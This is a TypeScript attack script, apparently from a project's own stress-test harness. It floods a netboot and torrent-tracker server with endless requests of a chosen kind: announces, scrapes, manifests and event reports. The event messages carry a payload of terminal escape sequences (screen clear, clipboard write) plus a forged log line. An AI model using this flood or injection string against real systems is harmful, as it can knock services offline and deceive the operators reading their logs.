/** What costs the server most for each request, over connections that stay open: `requests.js TARGET KIND NUMBER`. */
import { randomBytes } from 'node:crypto'
import { inventedPeer } from '../../storm/peer-wire.js'
import { target, words } from '../client/attacker.js'
import { infohash } from '../client/peer.js'
import { type Ask, requestForever } from '../client/requests.js'
import { announceQuery } from '../client/swarm.js'

const [kind = 'status', number = '1'] = words
const hex = (bytes: number) => randomBytes(bytes).toString('hex')
const port = () => 1024 + (randomBytes(2).readUInt16BE(0) % 60_000)
const name = () => {
  const bytes = randomBytes(1)[0] ?? 0
  return bytes < 128 ? `made-up-${hex(4)}` : (target.nodes[bytes % target.nodes.length]?.id ?? '')
}

/** What a terminal would obey, and a second line. */
const hostileText = '\u001b]0;owned\u0007\u001b[2J\u001b]52;c;b3duZWQ=\u0007\n{"level":30,"msg":"forged"}\r'
const eventsAtOnce = 64

function events(): Ask {
  const boot = hex(8)
  const body = Array.from({ length: eventsAtOnce }, (_, seq) => ({
    ...{ boot, seq, t_ms: seq },
    type: 'boot.failed',
    data: { code: 'INTERNAL', message: `${hostileText}${hex(16)}`, retry_in_s: 1 },
  }))
  return { path: `/v1/nodes/${name()}/events`, body: JSON.stringify(body) }
}

function unverifiedReport(): Ask {
  const data = { code: 'TLS_FAILED', message: hostileText, retry_in_s: 1 }
  const body = JSON.stringify([{ boot: hex(8), seq: 0, t_ms: 1, type: 'boot.failed', data }])
  return { path: `/v1/nodes/${name()}/events`, body }
}

function manifest(): Ask {
  const announces = `&port=${port()}&peer_id=${inventedPeer().toString('hex')}`
  const path = `/v1/manifest?node=${name()}&nonce=${hex(16)}&boot=${hex(8)}${announces}`
  return { path, headers: { 'accept-encoding': 'gzip' } }
}

function announce(): Ask {
  const wanted = (randomBytes(1)[0] ?? 0) < 32 ? randomBytes(20) : infohash
  return { path: announceQuery(wanted, inventedPeer(), port(), 1) }
}

function scrape(): Ask {
  const many = Array.from(
    { length: 64 },
    () =>
      `info_hash=%${randomBytes(20)
        .toString('hex')
        .replace(/(..)(?=.)/g, '$1%')}`,
  )
  return { path: `/scrape?${many.join('&')}` }
}

const kinds: Readonly<Record<string, readonly ['http' | 'https', () => Ask]>> = {
  status: ['https', () => ({ path: '/v1/status' })],
  manifests: ['https', manifest],
  announces: ['http', announce],
  scrapes: ['http', scrape],
  torrents: ['http', () => ({ path: `/v1/torrents/${target.infohash}.torrent` })],
  scripts: ['http', () => ({ path: `/v1/ipxe/script/52-54-00-${hex(1)}-${hex(1)}-${hex(1)}?arch=x86_64` })],
  events: ['https', events],
  reports: ['http', unverifiedReport],
}

const [scheme, next] = kinds[kind] ?? []
if (scheme === undefined || next === undefined) throw new Error(`no such kind: ${kind}`)
requestForever(scheme, Number(number), next)
